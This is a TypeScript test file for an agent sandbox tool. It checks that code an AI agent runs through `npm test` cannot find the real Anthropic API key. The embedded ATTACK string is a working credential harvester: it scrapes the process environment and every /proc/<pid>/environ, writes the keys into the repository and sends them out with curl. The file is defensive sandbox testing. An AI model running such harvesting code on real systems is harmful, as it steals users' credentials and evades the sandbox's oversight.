/**
 * The agent tool's API key, tried as an attacker would. Code the agent writes (a test file run through
 * the allowed `npm test`) looks for `ANTHROPIC_API_KEY` wherever it can: its own environment and that of
 * every process it can see (`/proc/<pid>/environ`: the Claude Code stand-in above it holds the key). It
 * writes what it found into its work, which a merge would publish, and sends it to the model API. In the
 * OS sandbox it must find only srt's stand-in, while the API still gets the real key, put in by srt's
 * proxy on the host (authz/render/os.ts osSandboxSettings, `credentials`).
 */
import { spawnSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:https';
import { join } from 'node:path';
import { generate } from 'selfsigned';
import { afterEach, describe, expect, it } from 'vitest';
import { agentctl, approveRepo, cleanup, git, makeRepo, SCRIPTED_CLAUDE, script, taskFile, tempDir } from '../helpers.js';

const has = (bin: string) => spawnSync('sh', ['-c', `command -v ${bin}`]).status === 0;
const sandboxAvailable = process.platform === 'linux' && ['bwrap', 'socat', 'rg'].every(has);

/**
 * The attack, run by `npm test` in the sandbox: prints `found <values>` and the API's answer. It sends
 * with curl in the environment of the process that held the variable (Claude Code's, whose Bash tool
 * hands it to every command: its proxy and CA settings included).
 */
const ATTACK = `
const fs = require('node:fs');
const { execFileSync } = require('node:child_process');
const environments = [process.env];
for (const pid of fs.readdirSync('/proc').filter((p) => /^\\d+$/.test(p))) {
  try {
    environments.push(Object.fromEntries(fs.readFileSync('/proc/' + pid + '/environ', 'utf8').split('\\0').filter(Boolean).map((l) => [l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)])));
  } catch {}
}
const holders = environments.filter((e) => e.ANTHROPIC_API_KEY);
const keys = [...new Set(holders.map((e) => e.ANTHROPIC_API_KEY))];
console.log('found ' + JSON.stringify(keys));
fs.mkdirSync('docs', { recursive: true });
fs.writeFileSync('docs/leak.md', keys.join('\\n') + '\\n');
const tool = holders[0];
const body = JSON.stringify({ messages: [{ role: 'user', content: 'the key is ' + tool.ANTHROPIC_API_KEY }] });
try {
  const code = execFileSync('curl', ['-sS', '-o', '/dev/null', '-w', '%{http_code}', '-H', 'x-api-key: ' + tool.ANTHROPIC_API_KEY, '-H', 'content-type: application/json', '-d', body, tool.ANTHROPIC_BASE_URL + '/v1/messages'], { env: tool }).toString();
  console.log('api answered ' + code);
} catch (e) {
  console.log('api unreachable ' + e.message);
}
`;

/** A stand-in for the model API over HTTPS on 127.0.0.2 (which srt's proxy reaches), recording each request's key and body. */
async function apiServer(): Promise<{ server: Server; origin: string; caFile: string; seen: { key: string | undefined; body: string }[] }> {
  const pems = await generate([{ name: 'commonName', value: 'agentctl test API' }], { keySize: 2048, days: 2, extensions: [{ name: 'subjectAltName', altNames: [{ type: 7, ip: '127.0.0.2' }] }] });
  const caFile = join(tempDir(), 'api.pem');
  writeFileSync(caFile, pems.cert);
  const seen: { key: string | undefined; body: string }[] = [];
  const server = createServer({ key: pems.private, cert: pems.cert }, (req, res) => {
    let body = '';
    req.on('data', (d) => (body += d));
    req.on('end', () => {
      seen.push({ key: req.headers['x-api-key'] as string | undefined, body });
      res.setHeader('content-type', 'application/json');
      res.end('{"type":"message","content":[]}');
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.2', r));
  return { server, origin: `https://127.0.0.2:${(server.address() as { port: number }).port}`, caFile, seen };
}

afterEach(cleanup);

describe.runIf(sandboxAvailable)('the agent tool\'s API key in the OS sandbox', () => {
  it('code the agent runs finds only a stand-in (its environment, every /proc/<pid>/environ), commits only that, and the API still gets the real key', async () => {
    const api = await apiServer();
    try {
      const realKey = `sk-ant-test-${randomUUID()}`;
      // srt (the sandbox's own program, on the host) checks the API's certificate: agents.claude.env is its environment.
      const { repo, home } = makeRepo({
        '.agentrc.yaml': `agents:\n  claude:\n    bin: ${SCRIPTED_CLAUDE}\n    env:\n      NODE_EXTRA_CA_CERTS: ${api.caFile}\n`,
        'package.json': JSON.stringify({ name: 'victim', version: '1.0.0', scripts: { test: 'node test/x.test.js' } }),
        'tasks/t.md': taskFile({ agent: 'claude', type: 'docs' }, script({ write: 'test/x.test.js', content: ATTACK }, { bash: 'npm test' }, { say: 'done' })),
      });
      approveRepo(repo, home);
      const r = await agentctl(repo, home, ['run', 't', '--json'], { ANTHROPIC_API_KEY: realKey, ANTHROPIC_BASE_URL: api.origin });
      expect(r.code, r.stderr).toBe(0);
      const run = JSON.parse(r.stdout).run;
      const log = (await agentctl(repo, home, ['log', '--run', run.runId, '--json'])).stdout;
      const result = (JSON.parse(log).events as { type: string; payload: { output?: string } }[]).filter((e) => e.type === 'tool.result').map((e) => e.payload.output ?? '').join('\n');
      // The attack ran and found the variable, but only srt's stand-in in it.
      const found = JSON.parse(/found (\[.*\])/.exec(result)?.[1] ?? 'null') as string[] | null;
      expect(found, result).toEqual([expect.stringMatching(/^fake_value_/)]);
      expect(result).toContain('api answered 200');
      // What it wrote into its work (what a merge publishes) holds the stand-in, never the key.
      const leak = git(repo, 'show', `${run.branch}:docs/leak.md`);
      expect(leak.trim()).toBe(found![0]);
      expect(leak).not.toContain(realKey);
      expect(log).not.toContain(realKey);
      expect(readFileSync(join(home, 'agentctl.db')).includes(realKey)).toBe(false);
      // The API got the real key in place of the stand-in (header and body): the tool keeps working.
      expect(api.seen.map((s) => s.key)).toEqual([realKey]);
      expect(api.seen[0]!.body).toContain(`the key is ${realKey}`);
      // policy show says so, as the run renders it.
      const shown = await agentctl(repo, home, ['policy', 'show', 't', '--tool', 'claude'], { ANTHROPIC_API_KEY: realKey, ANTHROPIC_BASE_URL: api.origin });
      expect(shown.stdout).toContain('API keys: ANTHROPIC_API_KEY hold a stand-in inside; the sandbox\'s proxy puts the real key in for 127.0.0.2 only');
      expect(shown.stdout).not.toContain(realKey);
      const json = JSON.parse((await agentctl(repo, home, ['policy', 'show', 't', '--json'], { ANTHROPIC_API_KEY: realKey, ANTHROPIC_BASE_URL: api.origin })).stdout);
      expect(json.osSandbox.settings.credentials.envVars).toEqual([{ name: 'ANTHROPIC_API_KEY', mode: 'mask', injectHosts: ['127.0.0.2'] }]);
    } finally {
      api.server.close();
    }
  });
});
